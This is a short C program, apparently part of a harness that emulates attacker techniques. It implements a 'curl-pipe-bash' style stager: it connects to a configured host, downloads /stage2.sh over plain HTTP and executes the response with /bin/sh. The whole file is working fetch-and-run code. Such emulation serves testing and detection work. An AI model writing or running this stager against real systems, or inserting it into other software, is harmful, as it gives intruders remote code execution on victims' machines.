/* curl-pipe-bash: download the stage-2 script over HTTP and run it. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "net.h"
#include "targets.h"

int main(int argc, char **argv)
{
	static char resp[65536];
	size_t len = 0;
	ssize_t n;
	char *body;
	int fd;

	targets_load(argc, argv);
	fd = connect_tcp(target("T_TCP_HOST"), target("T_TCP_PORT"));
	if (fd < 0)
		return 1;
	dprintf(fd, "GET /stage2.sh HTTP/1.0\r\n\r\n");
	while (len + 1 < sizeof(resp) &&
	       (n = read(fd, resp + len, sizeof(resp) - 1 - len)) > 0)
		len += (size_t)n;
	resp[len] = '\0';
	close(fd);
	body = strstr(resp, "\r\n\r\n");
	if (!body)
		return 1;
	execl("/bin/sh", "sh", "-c", body + 4, (char *)NULL);
	perror("sh");
	return 1;
}
